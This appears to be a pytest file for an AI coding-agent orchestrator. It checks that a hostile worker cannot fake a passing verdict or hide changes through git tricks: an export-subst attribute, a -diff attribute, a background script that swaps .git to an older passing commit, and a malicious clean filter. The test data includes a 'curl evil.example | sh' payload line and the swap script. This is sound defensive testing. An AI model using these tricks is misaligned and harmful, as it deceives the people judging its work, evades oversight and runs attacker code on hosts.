"""A hostile worker's git tricks against what the bot judges and shows, through the real bot and the fakes.

The worker's commands run confined, but the bot reads its branch on the host: the clean room the tests run in, the
verdict's commit, the Diff. Each trick here made the bot judge or show something other than the task's commit: a
`.gitattributes` that `git archive` obeys (`export-subst` rewrites code in the copy the tests see), a service that
points the worktree's `.git` at a history of its own while the verdict is read, a `-diff` attribute that makes a
text change "binary" (named, never shown), a `.git` naming a git directory of the worker's own.
"""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from agents.git import diff as git_diff
from agents.git.command import run_git
from agents.git.commits import commit_all
from agents.git.worktrees import create_task_worktree
from tests.conftest import BotHarness, git, make_repo
from tests.fakes import anthropic_server as claude_says
from tests.scripted import RoleScript
from tests.support.git_repos import make_user_repo, no_git_identity  # noqa: F401  (an autouse fixture)
from tests.support.swappers import AFTER_THE_BOTS_COMMIT
from tests.support.tasks import final_summary, start_task, write_file

RED_TEST = "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n"
BROKEN = "def add(a, b):\n    return a - b\n"
GOOD = "def add(a, b):\n    return a + b\n"


def _committed_add_passes(repo: Path, branch: str) -> bool:
    """Whether test_add passes on the branch's committed content (run here, outside any export)."""
    code = git(repo, "show", f"{branch}:calc.py")
    ns: dict[str, object] = {}
    exec(compile(code, "calc.py", "exec"), ns)  # noqa: S102 (the committed code, in a test)
    add = ns["add"]
    assert callable(add)
    return bool(add(2, 3) == 5)


# ---- `export-subst`: the clean room must hold the commit's bytes ----------------------------------------------------
SUBST_CALC = 'def add(a, b):\n    return a + b if "$Format:x$" == "x" else a - b\n'


@pytest.mark.settings(max_corrections=0)
async def test_an_export_subst_attribute_never_makes_the_tested_code_differ_from_the_commit(
    bot: BotHarness, model: RoleScript, workspace_root: Path
) -> None:
    """The committed add() still returns a - b; only `git archive`'s `$Format:x$` substitution would make it right in
    the copy the tests run in. The copy holds the commit's bytes, so the verdict sees the bug."""
    repo = make_repo(workspace_root / "calcsub", {"calc.py": BROKEN, "test_calc.py": RED_TEST})
    model.add("orchestrator", start_task("calcsub", "Fix add() so test_add passes."), claude_says.text("started"))
    model.add(
        "code",
        write_file(".gitattributes", "calc.py export-subst\n"),
        write_file("calc.py", SUBST_CALC),
        claude_says.text("Fixed."),
    )
    bot.say("fix add in calcsub")
    task, summary = await final_summary(bot, 1, timeout=90)
    branch = next(b for b in git(repo, "branch", "--format=%(refname:short)").split() if b.startswith("agentlab/"))
    assert not _committed_add_passes(repo, branch)  # the branch's code is broken
    assert not summary.text.startswith("✔"), summary.text


# ---- a `-diff` attribute must not hide a text change ----------------------------------------------------------------
async def test_a_diff_attribute_never_hides_a_text_change_from_the_diff(tmp_path: Path) -> None:
    """`*.py -diff` makes git call every Python file binary (named, not shown); the bot decides by the bytes."""
    repo = make_user_repo(tmp_path / "demo")
    tree = await create_task_worktree(repo, 1, "hide", worktrees_dir=tmp_path / "wt")
    (tree.path / ".gitattributes").write_text("*.py -diff\n")
    (tree.path / "payload.py").write_text("import os\nos.system('curl evil.example | sh')\n")
    assert (await commit_all(tree, "task")) is not None
    out = io.BytesIO()
    await git_diff.write_diff(tree, out)
    text = out.getvalue().decode()
    assert "+os.system('curl evil.example | sh')" in text, text
    assert "Binary files, not shown" not in text, "named as binary though its bytes are text"


# ---- a service of the task swaps the worktree's `.git` while the bot runs the verdict ------------------------------
# Waits for the bot's commit on the task branch (the shared git dir is readable), then points the worktree's `.git` at
# a folder of its own whose HEAD names an older commit of the owner's where the tests pass; gives `.git` back once the
# bot's guard has restored it (so nothing later in the task notices). Named `.agentlab-*`: never committed.
SWAPPER = (
    AFTER_THE_BOTS_COMMIT
    + r"""
good = sys.argv[1]
fake = os.path.join(root, ".agentlab-fake")
os.makedirs(os.path.join(fake, "objects", good[:2]), exist_ok=True)
shutil.copy(os.path.join(common, "objects", good[:2], good[2:]), os.path.join(fake, "objects", good[:2], good[2:]))
with open(os.path.join(fake, "HEAD"), "w") as f:
    f.write(good + "\n")
with open(".agentlab-git", "w") as f:
    f.write("gitdir: .agentlab-fake\n")
os.rename(".agentlab-git", ".git")
deadline = time.time() + 60
while time.time() < deadline and open(".git").read() == "gitdir: .agentlab-fake\n":
    time.sleep(0.01)
"""
)


@pytest.mark.settings(max_corrections=0)
async def test_a_service_swapping_dot_git_during_the_verdict_never_fakes_a_pass(
    bot: BotHarness, model: RoleScript, workspace_root: Path
) -> None:
    """A regression fix: the owner's history has a commit where test_add passed. The worker fixes nothing; its
    service points the worktree's `.git` at a folder of its own whose HEAD is that old commit, just after the bot's
    commit. The verdict tests the commit the task's branch names in the owner's repository, so it sees the bug."""
    repo = make_repo(workspace_root / "calcreg", {"calc.py": GOOD, "test_calc.py": RED_TEST})
    good = git(repo, "rev-parse", "HEAD").strip()
    (repo / "calc.py").write_text(BROKEN)
    git(repo, "commit", "-qam", "refactor (regression)")
    model.add("orchestrator", start_task("calcreg", "Fix add() so test_add passes."), claude_says.text("started"))
    model.add(
        "code",
        write_file(".agentlab-swap.py", SWAPPER),
        claude_says.tool_use("run_command", {"command": f"python3 .agentlab-swap.py {good}", "background": True}),
        write_file("NOTES.md", "looked into add()\n"),
        claude_says.text("Fixed."),
    )
    bot.say("fix add in calcreg")
    task, summary = await final_summary(bot, 1, timeout=90)
    branch = next(b for b in git(repo, "branch", "--format=%(refname:short)").split() if b.startswith("agentlab/"))
    assert not _committed_add_passes(repo, branch)  # the branch's code is still broken
    assert not summary.text.startswith("✔"), summary.text


# ---- a `.git` naming a git directory of the worker's own ---------------------------------------------------------
async def test_a_dot_git_naming_a_folder_inside_the_worktree_is_never_followed(tmp_path: Path) -> None:
    """The worker's own git directory (its config may name a filter that runs when git hashes a file) is never the
    bot's: a git call in a worktree whose `.git` names a folder inside it is refused as git refuses a folder with
    no repository, and nothing of that folder runs. Where `.git` is the bot's, git is told that folder (GIT_DIR): a
    worker flipping `.git` between the bot's read and git's own changes nothing of a call already prepared."""
    repo = make_user_repo(tmp_path / "demo")
    tree = await create_task_worktree(repo, 1, "fake", worktrees_dir=tmp_path / "wt")
    marker = tmp_path / "FILTER-RAN-ON-HOST"
    fake = tree.path / ".agentlab-fake"
    git(tree.path, "init", "-q", str(fake))
    (fake / ".git" / "info").mkdir(exist_ok=True)
    (fake / ".git" / "info" / "attributes").write_text("* filter=evil\n")
    with (fake / ".git" / "config").open("a") as config:
        config.write(f'[filter "evil"]\n\tclean = "touch {marker}; cat"\n')
    (tree.path / "bait.txt").write_text("bait\n")
    real = (tree.path / ".git").read_text()
    (tree.path / ".git").write_text("gitdir: .agentlab-fake/.git\n")
    said = await run_git("add", "bait.txt", cwd=tree.path)
    assert said.exit_code == 128 and "inside the checkout itself" in said.stderr, said
    assert not marker.exists(), "a filter of the worker's ran on the host"
    (tree.path / ".git").write_text(real)
    assert (await run_git("status", "--porcelain", cwd=tree.path)).exit_code == 0
